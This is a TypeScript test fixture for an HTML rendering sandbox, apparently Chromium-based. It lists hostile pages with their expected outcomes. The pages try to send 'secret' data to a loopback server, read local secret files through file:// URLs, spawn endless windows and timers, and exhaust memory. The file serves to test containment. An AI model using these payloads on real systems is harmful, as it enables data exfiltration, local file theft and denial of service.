import type { BadInput } from "./bad-input.ts";
import type { Bait } from "./canary.ts";

/** Pages that reach out, wait for ever, or take more than there is. */

/** A page that tries something it must not. It still prints, with the word `still` on it. */
export interface HostilePage {
  readonly id: string;
  /** `address` is the origin of a server on loopback that counts its visitors. */
  readonly html: (address: string) => string;
}

const script = (code: string) => `<p>still</p><script>${code}</script>`;

/** Whatever a page can reach out by, at a server that it may not reach. */
export const reachingPages: readonly HostilePage[] = [
  { id: "img", html: (address) => `<p>still</p><img src="${address}/a.png">` },
  { id: "iframe", html: (address) => `<p>still</p><iframe src="${address}/a"></iframe>` },
  {
    id: "object and embed",
    html: (a) => `<p>still</p><object data="${a}/a"></object><embed src="${a}/b">`,
  },
  {
    id: "css",
    html: (a) =>
      `<p>still</p><link rel=stylesheet href="${a}/a.css"><style>@import "${a}/b.css"; p { background: url(${a}/c.png) } @font-face { font-family: x; src: url(${a}/d.woff) } p { font-family: x }</style>`,
  },
  { id: "script", html: (address) => `<p>still</p><script src="${address}/a.js"></script>` },
  {
    id: "prefetch",
    html: (a) =>
      `<link rel=dns-prefetch href="${a}"><link rel=preconnect href="${a}"><link rel=prefetch href="${a}/a"><link rel=preload as=image href="${a}/b"><p>still</p>`,
  },
  {
    id: "fetch",
    html: (address) => script(`fetch("${address}/a", { mode: "no-cors" }).catch(() => {})`),
  },
  {
    id: "XMLHttpRequest",
    html: (address) =>
      script(`const x = new XMLHttpRequest(); x.open("POST", "${address}/a"); x.send("secret")`),
  },
  {
    id: "WebSocket",
    html: (address) => script(`new WebSocket("${address.replace("http", "ws")}/a")`),
  },
  { id: "EventSource", html: (address) => script(`new EventSource("${address}/a")`) },
  { id: "beacon", html: (address) => script(`navigator.sendBeacon("${address}/a", "secret")`) },
  {
    id: "worker",
    html: (a) =>
      script(`new Worker(URL.createObjectURL(new Blob(["fetch('${a}/a').catch(() => {})"])))`),
  },
  {
    id: "service worker",
    html: (a) => script(`navigator.serviceWorker?.register("${a}/a.js").catch(() => {})`),
  },
  {
    id: "WebRTC",
    html: (a) =>
      script(
        `const r = new RTCPeerConnection({ iceServers: [{ urls: "${a.replace("http://", "stun:")}" }] }); r.createDataChannel("x"); r.createOffer().then((o) => r.setLocalDescription(o))`,
      ),
  },
  {
    id: "meta refresh",
    html: (a) => `<meta http-equiv=refresh content="0;url=${a}/a"><p>still</p>`,
  },
  { id: "location", html: (address) => script(`location.href = "${address}/a"`) },
  {
    id: "form",
    html: (address) =>
      `<p>still</p><form id=f method=post action="${address}/a"></form><script>f.submit()</script>`,
  },
  {
    id: "audio and video",
    html: (a) =>
      `<p>still</p><video src="${a}/a.mp4" autoplay></video><audio src="${a}/b.mp3" autoplay></audio>`,
  },
  {
    id: "window.open",
    html: (address) => script(`for (let i = 0; i < 1000; i++) window.open("${address}/a")`),
  },
  {
    id: "download",
    html: (a) => `<p>still</p><a id=d download href="${a}/a">x</a><script>d.click()</script>`,
  },
  {
    id: "other schemes",
    html: () =>
      `<p>still</p><img src="ftp://127.0.0.1/a"><iframe src="chrome://version"></iframe><iframe src="view-source:http://127.0.0.1/"></iframe>`,
  },
];

/** Pages that would wait for an answer, or for ever, or fill the disk. */
export const obstinatePages: readonly HostilePage[] = [
  { id: "alert, confirm, prompt", html: () => script("alert(1); confirm(2); prompt(3)") },
  { id: "print", html: () => script("print()") },
  { id: "beforeunload", html: () => script("onbeforeunload = () => 'stay'; location.href = '/b'") },
  {
    id: "a storm of timers",
    html: () => script("for (let i = 0; i < 1000; i++) setInterval(() => i, 0)"),
  },
  {
    id: "a data: download",
    html: () => script("location.href = 'data:application/octet-stream,x'"),
  },
  { id: "an error in a script", html: () => script("throw new Error('x')") },
  {
    id: "tampered built-ins",
    html: () =>
      script(
        "Array.prototype.push = Promise.race = window.setTimeout = null; Object.defineProperty(document, 'fonts', { value: { ready: new Promise(() => {}) } })",
      ),
  },
  {
    id: "@page of a kilometre",
    html: () => `<style>@page { size: 1km 1km; margin: 40cm }</style><p>still</p>`,
  },
];

const rowOf =
  (...answers: BadInput["answers"]) =>
  (
    id: string,
    html: string | ((bait: Bait) => string),
    more: Partial<BadInput> = {},
  ): BadInput => ({
    ...{ id, type: "html", answers, seconds: 240 },
    build: (bait) => Buffer.from(typeof html === "string" ? html : html(bait)),
    ...more,
  });

const fine = rowOf("completes");
const endless = (id: string, code: string) =>
  rowOf("timed_out")(id, script(code), { isSlow: true });

/** Half a gigabyte more than Chromium may use: the watch over its memory looks four times a second. */
const bounded = { mostBytes: 3 * 2 ** 30 };

/** Everything with the address of servers that count who comes, and a neighbour's file. */
export const badPages: readonly BadInput[] = [
  ...[...reachingPages, ...obstinatePages].map(({ id, html }) =>
    fine(id, ({ address }) => html(address)),
  ),
  fine("IPv6 loopback and other names of it", ({ port }) =>
    ["[::1]", "localhost", "localhost.", "127.1", "2130706433", "0x7f.1", "[::ffff:127.0.0.1]"]
      .map(
        (host) =>
          `<img src="http://${host}:${port}/a"><iframe src="http://${host}:${port}/b"></iframe>`,
      )
      .join(`<p>still</p>`),
  ),
  fine("files", ({ secret }) => {
    const url = `file://${secret}`;
    return `<p>still</p><iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}"><link rel=stylesheet href="${url}"><meta http-equiv=refresh content="0;url=${url}"><script>fetch("${url}").then((r) => r.text()).then((t) => document.write(t), () => {}); location.href = "${url}"; open("${url}")</script><iframe src="file:///usr/share/common-licenses/BSD"></iframe><iframe src="../neighbour/in/secret.txt"></iframe>`;
  }),
  fine(
    "a page from a file",
    ({ folder }) => `<base href="file://${folder}/"><p>still</p><iframe src="secret.txt"></iframe>`,
  ),
  rowOf("out_of_memory")(
    "5 GB",
    script("const all = []; for (let i = 0; i < 50; i++) all.push(new Uint8Array(1e8).fill(1))"),
    bounded,
  ),
  rowOf(
    "out_of_memory",
    "timed_out",
    "engine_crashed",
    "too_complex",
  )(
    "a picture of 10⁹ pixels",
    `<canvas id=c width=32000 height=32000></canvas><p>still</p><script>c.getContext("2d").fillRect(0, 0, 32000, 32000)</script>`,
    { ...bounded, answers: ["completes", "out_of_memory", "timed_out"] },
  ),
  fine("10⁶ pixels of height", `<p>still</p><div style="height:1000000px">x</div>`, bounded),
  rowOf("too_complex")("2 × 10⁷ pixels of height", `<div style="height:20000000px">x</div>`),
  rowOf("completes", "too_complex", "timed_out")(
    "elements 10,000 deep",
    `still${"<div>".repeat(10_000)}`,
    bounded,
  ),
  endless("an endless loop", "for (;;);"),
  endless("a loop of dialogs", "for (;;) alert(1)"),
  endless("a loop of microtasks", "(async () => { for (;;) await 0 })()"),
  fine(
    "a page that never comes to rest",
    script("onload = () => setInterval(() => fetch('/' + Math.random()).catch(() => {}), 5)"),
  ),
];
